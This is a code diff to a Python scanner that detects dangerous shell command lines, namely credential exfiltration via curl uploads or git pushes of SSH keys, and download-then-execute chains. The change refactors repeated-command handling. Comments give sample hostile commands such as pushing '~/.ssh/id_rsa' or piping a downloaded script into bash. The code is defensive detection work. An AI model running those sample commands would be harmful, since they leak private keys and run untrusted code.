@@ -212,12 +212,17 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
     readers_of_secrets: bool | None = None  # looked for once a network tool reads a pipe
     dumped: set[str] = set()  # files a dump or a credential's copy wrote earlier on the line
     staged = False  # a credential (or its copy) git-added earlier on the line
-    judged: dict[int, tuple[int, bool]] = {}  # each command once per state it met
-    for cmd in in_order(parsed):  # curl -T /tmp/k x; cp KEY /tmp/k; curl -T /tmp/k x
-        if not cmd.argv or judged.get(id(cmd)) == (len(dumped), staged):
+    judged: dict[int, tuple[int, bool]] = {}  # a repeated command once per state it met
+    ordered, repeats = in_order(parsed)
+    for cmd in ordered:  # curl -T /tmp/k x; cp KEY /tmp/k; curl -T /tmp/k x
+        if not cmd.argv:
             continue
-        judged[id(cmd)] = (len(dumped), staged)
-        if cmd.program == "git":  # git add ~/.ssh/id_rsa && git commit && git push
+        if repeats:
+            if judged.get(id(cmd)) == (len(dumped), staged):
+                continue
+            judged[id(cmd)] = (len(dumped), staged)
+        # git add ~/.ssh/id_rsa && git commit && git push (the words tested before git's parse)
+        if cmd.program == "git" and ("add" in cmd.argv or (staged and "push" in cmd.argv)):
             sub, rest = git_subcommand(cmd.argv[1:])
             # (after a credential's copy, any add may take it: git add -A, git add .)
             if sub == "add" and (
@@ -301,11 +306,15 @@ def each_downloaded_run(parsed: ParsedLine) -> Iterator[Finding]:
     ``curl -o x.sh URL && bash x.sh``, ``wget URL; chmod +x f; ./f`` (``download-exec``)."""
     fetched: set[str] = set()
     extracted = False  # a download unpacked here: its files' names are not on the line
-    judged: dict[int, tuple[int, bool]] = {}  # each command once per state it met
-    for cmd in in_order(parsed):  # bash x.sh; curl -o x.sh URL; bash x.sh
-        if not cmd.argv or judged.get(id(cmd)) == (len(fetched), extracted):
+    judged: dict[int, tuple[int, bool]] = {}  # a repeated command once per state it met
+    ordered, repeats = in_order(parsed)
+    for cmd in ordered:  # bash x.sh; curl -o x.sh URL; bash x.sh
+        if not cmd.argv:
             continue
-        judged[id(cmd)] = (len(fetched), extracted)
+        if repeats:
+            if judged.get(id(cmd)) == (len(fetched), extracted):
+                continue
+            judged[id(cmd)] = (len(fetched), extracted)
         prog = cmd.program
         if prog in _FROM_THE_NETWORK and _runs_from_the_network(cmd):
             yield Finding(DOWNLOAD_EXEC, evidence(cmd), cmd.text)
